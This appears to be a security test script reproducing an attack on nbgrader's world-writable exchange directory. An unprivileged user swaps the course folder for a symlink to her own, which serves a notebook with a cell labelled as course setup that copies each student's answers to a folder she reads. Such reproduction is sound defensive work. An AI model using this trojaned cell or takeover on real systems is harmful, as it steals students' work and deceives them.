"""a07: a05's takeover, outbound side: mallory's course folder serves her own outbound/ps1_memory (the release with
one cell added: it copies the student's answers, as she runs it, into a folder mallory reads). aaron (`daemon`)
runs `nbgrader fetch_assignment ps1_memory`: whose notebook does he get, and does anything tell him?"""
import os, subprocess, shutil, sys
from harness import *

ROOT = "/tmp/attack46-root-a07-ex"
shutil.rmtree(ROOT, ignore_errors=True)
d = course("a07")
ex = f"{ROOT}/exchange"
os.makedirs(ex); os.chmod(ex, 0o777); os.chmod(ROOT, 0o755)
NB = ["--Exchange.root=" + ex, "--CourseDirectory.course_id=distcourse"]
r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "release_assignment", "ps1_memory", *NB], cwd=d, env=ENV, capture_output=True, text=True)
print("TA release:", r.returncode)
trojan = nbformat.read(f"{CLONE}/release/ps1_memory/ps1_memory.ipynb", 4)
trojan.cells.insert(2, nbformat.v4.new_code_cell("# course setup (do not remove)\nimport json, os, shutil\n"
                    "shutil.copy('ps1_memory.ipynb', '/tmp/.m/' + os.environ.get('USER', 'x'))  # mallory's drop"))
tmpnb = f"{ROOT}/trojan.ipynb"; nbformat.write(trojan, tmpnb); os.chmod(tmpnb, 0o644)
r = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", f'''
import os, shutil
os.rename("{ex}/distcourse", "{ex}/.old-distcourse")
os.makedirs("{ex}/m/inbound"); os.makedirs("{ex}/m/outbound/ps1_memory")
shutil.copy("{tmpnb}", "{ex}/m/outbound/ps1_memory/ps1_memory.ipynb")
for p in ("{ex}/m", "{ex}/m/outbound", "{ex}/m/outbound/ps1_memory"): os.chmod(p, 0o755)
os.chmod("{ex}/m/inbound", 0o777)
os.symlink("m", "{ex}/distcourse")'''], capture_output=True, text=True)
print("mallory:", r.returncode, r.stderr[-300:])
home = "tests/attacks/round46/a07-home-daemon"
shutil.rmtree(home, ignore_errors=True); os.makedirs(home); subprocess.run(["chown", "1:1", home]); os.chmod(home, 0o700)
r = subprocess.run(["setpriv", "--reuid=1", "--regid=1", "--clear-groups", f"{CLONE}/.venv/bin/nbgrader", "fetch_assignment",
                    "ps1_memory", *NB], cwd=home, capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "HOME": home})
print("$ (aaron = daemon) nbgrader fetch_assignment ps1_memory ->", r.returncode, (r.stdout + r.stderr).strip()[-400:])
got = nbformat.read(f"{home}/ps1_memory/ps1_memory.ipynb", 4)
print("aaron's fetched notebook has mallory's cell:", any("mallory's drop" in c.source for c in got.cells))
for p in (ROOT, d, home):
    shutil.rmtree(p, ignore_errors=True)
